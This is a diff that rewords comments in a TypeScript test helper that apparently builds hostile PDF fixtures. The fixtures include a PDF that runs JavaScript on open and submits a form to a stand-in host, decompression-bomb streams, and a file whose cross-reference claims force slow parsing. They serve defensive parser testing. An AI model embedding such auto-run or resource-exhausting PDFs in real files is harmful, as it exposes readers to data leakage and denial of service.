@@ -1,21 +1,21 @@
 import { deflateSync } from "node:zlib";
 
 export type RawPdf = {
-  /** The number of real pages, and the number in the catalogue. */
+  /** `pages` is the PDF's real number of pages. `count` is the number that the PDF's page tree claims. */
   pages?: number;
   count?: number;
-  /** The pages in the page tree, from 0. A page can occur several times. */
+  /** The pages in the PDF's page tree, numbered from 0. A page can occur several times. */
   order?: number[];
-  /** More members of the catalogue, such as an action, and the objects to which they refer. */
+  /** Additional entries of the PDF's catalog, such as an action, and the objects that they refer to. */
   catalog?: string;
   objects?: (string | Buffer)[];
-  /** Bytes between the header and the first object. PDF readers ignore them. */
+  /** Bytes between the PDF's header and its first object. PDF readers ignore these bytes. */
   preamble?: string;
-  /** More members of the trailer. */
+  /** Additional entries of the PDF's trailer. */
   trailer?: string;
 };
 
-/** Returns a PDF written byte by byte. Additional objects start at number 10. */
+/** Returns a PDF written byte by byte. The additional objects have numbers from 10. */
 export function rawPdf({
   pages = 1,
   order = Array.from({ length: pages }, (_, n) => n),
@@ -68,7 +68,7 @@ export function rawPdf({
   return Buffer.concat(parts);
 }
 
-/** A stream object whose content inflates to `bytes` zeros. */
+/** Returns a PDF stream object whose content decompresses to `bytes` zeros. */
 export function flateStream(bytes: number, members = ""): Buffer {
   const packed = deflateSync(Buffer.alloc(bytes));
   return Buffer.concat([
@@ -78,7 +78,7 @@ export function flateStream(bytes: number, members = ""): Buffer {
   ]);
 }
 
-/** Returns a deck that tries to run a script when it is opened. */
+/** Returns a PDF deck that tries to run a script when a reader opens it. */
 export function scriptedPdf(script = 'app.alert("aperto"); this.submitForm("https://e.example")') {
   return rawPdf({
     catalog: "/OpenAction 10 0 R /AA << /WC 10 0 R >> /Names << /JavaScript 11 0 R >>",
@@ -90,8 +90,8 @@ export function scriptedPdf(script = 'app.alert("aperto"); this.submitForm("http
 }
 
 /**
- * Returns a small PDF whose cross-reference stream claims a million objects `sections` times, which costs a reader seconds.
- * `index` is the spelling of the key in the file.
+ * Returns a small PDF that claims a million objects in each of `sections`, so that reading it takes seconds. `index` is
+ * the spelling of the key in the file.
  */
 export function pdfOfClaims({ sections = 40, index = "/Index" } = {}): Buffer {
   const body = [
